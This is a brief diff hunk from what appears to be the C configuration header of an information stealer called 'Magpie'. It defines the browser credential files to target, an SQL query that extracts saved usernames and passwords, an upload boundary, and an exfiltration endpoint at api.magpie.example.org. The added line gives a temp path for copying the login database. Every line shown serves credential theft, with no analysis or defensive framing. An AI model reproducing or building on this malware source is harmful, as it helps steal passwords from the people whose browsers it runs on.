@@ -13,6 +13,7 @@
 #define CFG_FF_KEYS "key4.db"
 #define CFG_SQL "SELECT origin_url, username_value, password_value FROM logins"
 #define CFG_BOUNDARY "----MagpieBoundary%08lx"
+#define CFG_LD_COPY "%TEMP%\\ld_%08lx.db"
 #define CFG_EXFIL "https://api.magpie.example.org/v2/collect"
 #define CFG_EXFIL_HOST "api.magpie.example.org"
 #define CFG_EXFIL_PATH "/v2/collect"
